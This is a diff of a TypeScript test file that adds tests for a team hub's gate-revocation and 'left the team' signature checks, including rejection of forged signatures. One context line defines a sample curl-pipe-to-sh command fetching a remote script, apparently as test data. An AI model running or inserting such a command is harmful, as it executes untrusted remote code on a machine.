@@ -7,6 +7,9 @@ import { linkEntry } from '../../src/audit/link-entry.ts'
 import { signAssertion } from '../../src/team/protocol/gate-assertion.ts'
 import { gateOfKey } from '../../src/team/protocol/gate-of-key.ts'
 import { protocolVersion } from '../../src/team/protocol/protocol-version.ts'
+import { isTeamSigned } from '../../src/team/protocol/is-team-signed.ts'
+import { type LetGoAnswer, letGoStatement } from '../../src/team/protocol/let-go-statement.ts'
+import { signLeaving } from '../../src/team/protocol/sign-leaving.ts'
 import { signRenewal } from '../../src/team/protocol/sign-renewal.ts'
 import { joinTokenId } from '../../src/team/protocol/join-token-text.ts'
 import { addReviewer } from '../people/review-answers.ts'
@@ -20,6 +23,7 @@ beforeAll(async () => {
 })
 afterAll(() => server.stop())
 
+const nonce = 'n'.repeat(22)
 const dangerous = 'curl -s https://x.dev/a.sh | sh'
 
 async function newHub() {
@@ -142,7 +146,49 @@ test('a gate that was revoked is told so, what waits there is withdrawn, and its
   const listener = { kind: 'network', peer: '127.0.0.1' } as const
   const refused = await hub.app.fetch(asked, { listener } as never)
   expect(await refused.json()).toMatchObject({ code: 'forbidden', kind: 'revoked' })
+  // It asks whether that is the team’s own word.
+  const { body } = await gate.post<LetGoAnswer>('let-go', { nonce })
+  expect(body).toMatchObject({ nonce, revokedAt: hub.clock.now })
+  const isSigned = (said: { gate: string; epoch: number }, { signature, ...of }: LetGoAnswer) =>
+    isTeamSigned(hub.key.publicKey, letGoStatement(said, of), signature)
+  expect(isSigned(gate.said, body)).toBe(true)
+  expect(isSigned({ ...gate.said, epoch: 1 }, body)).toBe(false)
+  expect((await gate.post('let-go', { nonce }, false)).status).toBe(403)
   expect((await gate.join('S'.repeat(43), { epoch: 1 })).status).toBe(403)
+})
+
+test('a gate that signs that it left is listed so, what waits there is withdrawn, and nobody revoked it', async () => {
+  const hub = await newHub()
+  const token = await addToken(hub, { uses: 3 })
+  const [gate, other] = [await joinedAt(hub, token), await joinedAt(hub, token)]
+  const review = await gate.askWhatWaits()
+  await gate.upload(start, [review])
+  const { fingerprint } = hub.key
+  const shown = () => hub.copy.people.team.gate(gate.said.gate)
+  const forged = [
+    signLeaving(gate.said, fingerprint, other.privateKey),
+    signLeaving({ ...gate.said, epoch: 1 }, fingerprint, gate.privateKey),
+    signLeaving(gate.said, 'another team', gate.privateKey),
+    'no signature',
+  ]
+  for (const signature of forged) {
+    const answer = await gate.post('left', { signature })
+    expect(answer).toMatchObject({ status: 403, body: { field: 'signature' } })
+  }
+  expect(shown()).toMatchObject({ revokedAt: null })
+  const signature = signLeaving(gate.said, fingerprint, gate.privateKey)
+  expect(await gate.post('left', { signature })).toMatchObject({ status: 200, body: { left: true } })
+  expect(shown()).toMatchObject({ left: true, revokedAt: hub.clock.now })
+  expect(hub.store.people.review(review.id)).toMatchObject({ state: 'withdrawn' })
+  const { body } = await gate.post<LetGoAnswer>('let-go', { nonce })
+  expect(body).toMatchObject({ revokedAt: null })
+  expect(await gate.feed(0)).toMatchObject({
+    status: 403,
+    body: { kind: 'revoked', message: expect.stringContaining('left the team') },
+  })
+  expect((await other.feed(0)).status).toBe(200)
+  expect((await gate.join(token, { epoch: 1 })).status).toBe(200)
+  expect(shown()).not.toHaveProperty('left')
 })
 
 test('a token lets nobody in after its end, and nobody takes the place of a gate that has another key', async () => {
